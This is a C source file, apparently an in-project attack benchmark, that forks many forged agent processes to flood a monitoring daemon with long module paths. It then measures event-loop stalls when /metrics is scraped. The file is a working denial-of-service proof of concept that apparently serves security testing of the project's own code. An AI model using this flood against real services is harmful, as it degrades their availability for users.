/*
 * scrape_modules.c - (hostile11) a scrape of /metrics, or the periodic
 * snapshots, copy every module path of every live process on the loop.
 * start_round (daemon/metrics.c) calls capture_take for each live session in
 * one loop turn, and capture_take copies the session's modules with
 * modmap_array (one strdup a module): 8192 modules and 2 MiB of paths a
 * process, at most --max-sessions-per-uid (256) processes of one user, so a
 * single scrape copies up to 512 MiB in 2 M allocations without a pause.
 *
 * This forks N processes, each a forged agent (attack.h) that sends M
 * MODULE frames of long paths and stays connected; then it scrapes
 * /metrics every second and prints memtrace_loop_stall_max_seconds.
 *
 * Build: cc -O2 -Iproto -o /tmp/scrape_modules bench/attacks/scrape_modules.c \
 *          BUILD/.libs/libproto.a
 * Run (as the attacker): setpriv --reuid=65534 --regid=65534 --clear-groups \
 *          /tmp/scrape_modules RUNDIR METRICS_PORT [PROCS=200] [MODULES=8192]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/wait.h>
#include <time.h>

#include "attack.h"

static void child(const char *dir, long nmods)
{
	static const uint8_t bid[20] = {1};
	struct attack_region r;
	/* 2 MiB of paths in 8192 modules: 255 bytes each, the NUL included */
	size_t plen = (size_t)(2 << 20) / (size_t)nmods - 1;
	if (plen > 1000)
		plen = 1000;
	size_t cap = (size_t)nmods * (plen + 128), len = 0;
	uint8_t *buf = malloc(cap);
	char *path = malloc(plen + 1);

	attack_region_new(&r);
	attack_publish(&r);
	int fd = attack_hello(dir, "/bin/scrapemods", &r);
	for (long i = 0; i < nmods; i++) {
		uint64_t lo = UINT64_C(0x100000000) + (uint64_t)i * 0x10000;
		int pl = snprintf(path, plen + 1, "/nonexistent/%0*ld", (int)plen - 13, i);
		struct proto_module m = {.bias = lo,
		                         .lo = lo,
		                         .hi = lo + 0x1000,
		                         .build_id = bid,
		                         .build_id_len = sizeof bid,
		                         .path = path,
		                         .path_len = (uint32_t)pl};
		ssize_t k = proto_module_encode(buf + len, cap - len, &m);
		if (k <= 0)
			attack_die("module");
		len += (size_t)k;
	}
	attack_send(fd, buf, len);
	free(buf);
	pause(); /* the session stays live */
}

/* The loop's worst stall so far, from `status` on the control socket. */
static double status_stall(const char *dir)
{
	static char buf[1 << 16];
	static const char req[] = "{\"cmd\":\"status\"}\n";
	int fd = attack_connect(dir, "control.sock");
	size_t n = 0;
	ssize_t k;

	attack_send(fd, req, sizeof req - 1);
	while (n < sizeof buf - 1 && (k = read(fd, buf + n, sizeof buf - 1 - n)) > 0) {
		n += (size_t)k;
		if (buf[n - 1] == '\n')
			break;
	}
	buf[n] = '\0';
	close(fd);
	char *p = strstr(buf, "\"stall_max_seconds\":");
	return p != NULL ? strtod(p + 20, NULL) : -1;
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: scrape_modules RUNDIR PORT [PROCS] [MODULES]\n");
		return 2;
	}
	const char *dir = argv[1];
	int port = atoi(argv[2]);
	int procs = argc > 3 ? atoi(argv[3]) : 200;
	long nmods = argc > 4 ? atol(argv[4]) : 8192;
	pid_t *kids = calloc((size_t)procs, sizeof(*kids));

	printf("at start: stall max %.3f s\n", status_stall(dir));
	fflush(stdout);
	for (int i = 0; i < procs; i++) {
		kids[i] = fork();
		if (kids[i] == 0) {
			child(dir, nmods);
			_exit(0);
		}
	}
	sleep(5 + procs / 20); /* the daemon reads the modules */
	printf("%d processes of %ld modules, before any scrape: stall max %.3f s\n", procs, nmods,
	       status_stall(dir));
	for (int i = 0; i < 5; i++) {
		struct timespec t0, t1;
		clock_gettime(CLOCK_MONOTONIC, &t0);
		double s = attack_metrics_stall(port);
		clock_gettime(CLOCK_MONOTONIC, &t1);
		printf("scrape %d: %.0f ms, stall max %.3f s\n", i,
		       (double)(t1.tv_sec - t0.tv_sec) * 1e3 +
		           (double)(t1.tv_nsec - t0.tv_nsec) / 1e6,
		       s);
		fflush(stdout);
		sleep(1);
	}
	for (int i = 0; i < procs; i++)
		kill(kids[i], SIGKILL);
	while (wait(NULL) > 0)
		;
	return 0;
}
